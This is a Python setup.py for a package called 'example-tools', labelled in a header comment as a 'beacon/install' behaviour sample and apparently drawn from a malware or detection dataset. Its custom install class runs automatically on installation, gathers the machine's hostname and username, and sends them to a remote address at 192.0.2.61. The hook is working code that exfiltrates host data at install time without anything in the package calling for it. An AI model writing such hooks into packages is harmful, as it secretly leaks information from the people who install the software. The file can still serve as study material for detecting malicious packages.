# behavior: beacon/install file=setup.py
import getpass
import json
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


def facts():
    return {"host": socket.gethostname(), "user": getpass.getuser()}


class Install(install):
    def run(self):
        install.run(self)
        body = json.dumps(facts()).encode()
        urllib.request.urlopen("http://192.0.2.61/hello", data=body)


setup(name="example-tools", version="1.0.0", packages=["example_tools"], cmdclass={"install": Install})
